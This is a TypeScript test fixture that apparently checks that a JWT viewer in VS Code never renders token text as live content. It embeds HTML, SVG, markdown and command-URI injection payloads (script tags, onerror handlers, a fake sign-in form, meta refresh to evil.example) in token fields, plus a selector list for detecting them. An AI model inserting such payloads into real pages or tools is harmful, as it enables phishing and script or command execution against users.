import { encodeTextBase64url } from '../../src/core/jwt/base64url.ts';
import { jws, RS256 } from '../unit/core/jwt/tokens.ts';
import { times } from './tokenKinds.ts';

/** What would do something if anything interpreted it. */
const PROBES = [
  '[click](https://evil.example)',
  '[run](command:workbench.action.terminal.new)',
  '</code></pre>\n```\n# heading\n[x](command:evil)\n```',
  '`code` **bold** $(alert) ![i](https://evil.example/i.png)',
  '<h1>Sign in again</h1><form action="https://evil.example"><input></form><a href="https://evil.example">go</a>',
  '<img src=x onerror="document.title=1"><script>document.title=2</script><style>*{background:red}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<svg onload="document.title=3"><iframe src="https://evil.example"></iframe></svg>',
  '| a | b |\n|---|---|',
  'https://evil.example/autolink and admin\u202Enimda\u0000\u2066',
] as const;
const ALL = PROBES.join('\n');
const inClaims = Object.fromEntries(PROBES.map((probe) => [probe, probe]));
const disclosed = PROBES.map((probe) => encodeTextBase64url(JSON.stringify([probe, probe, probe])));
const [header = ''] = jws(RS256, {}).split('.');

/** Tokens with the probes in every place where text of a token is shown. A new place is one entry. */
export const hostileTokens = {
  claims: jws(
    { ...RS256, kid: PROBES[4] },
    {
      ...times,
      iss: PROBES[0],
      aud: [PROBES[1], PROBES[2]],
      sub: PROBES[4],
      azp: PROBES[3],
      scp: PROBES.join(' '),
      roles: PROBES,
      ...inClaims,
    },
  ),
  header: jws({ typ: PROBES[4], alg: `HS${ALL}`, crit: PROBES, jku: PROBES[5], ...inClaims }, inClaims),
  repeatedNames: jws(
    RS256,
    `{${PROBES.map((probe) => `${JSON.stringify(probe)}:1,`.repeat(2)).join('')}"a":1}`,
  ),
  text: jws({ alg: 'HS256' }, ALL),
  disclosures: `${jws({ ...RS256, typ: 'dc+sd-jwt' }, { ...times, _sd: PROBES })}~${disclosed.join('~')}~`,
  nested: jws({ ...RS256, cty: 'JWT' }, jws(RS256, inClaims)),
  encrypted: `${encodeTextBase64url(JSON.stringify({ alg: 'dir', enc: ALL, ...inClaims }))}..aXY.Y2lwaGVydGV4dA.dGFn`,
  thirdPart:
    `${header}.${encodeTextBase64url(JSON.stringify(times))}.${'S'.repeat(342)}${PROBES.join('')}`.replaceAll(
      '\n',
      ' ',
    ),
} as const;

/** What no text of a token may become, in a hover or a page. */
export const ALIVE = [
  '[href*=evil]',
  '[data-href*=evil]',
  '[src*=evil]',
  '[onerror]',
  '[onload]',
  ...['form[action]', 'img', 'svg', 'iframe', 'style', 'meta', 'base', '.codicon-alert'],
].join();
